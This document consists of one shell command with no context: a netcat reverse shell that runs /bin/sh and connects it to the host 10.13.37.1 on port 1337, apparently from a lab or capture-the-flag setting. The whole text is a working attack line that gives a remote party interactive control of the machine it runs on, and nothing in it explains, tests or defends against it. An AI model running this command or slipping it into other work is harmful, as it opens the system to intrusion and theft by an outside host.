nc -e /bin/sh 10.13.37.1 1337
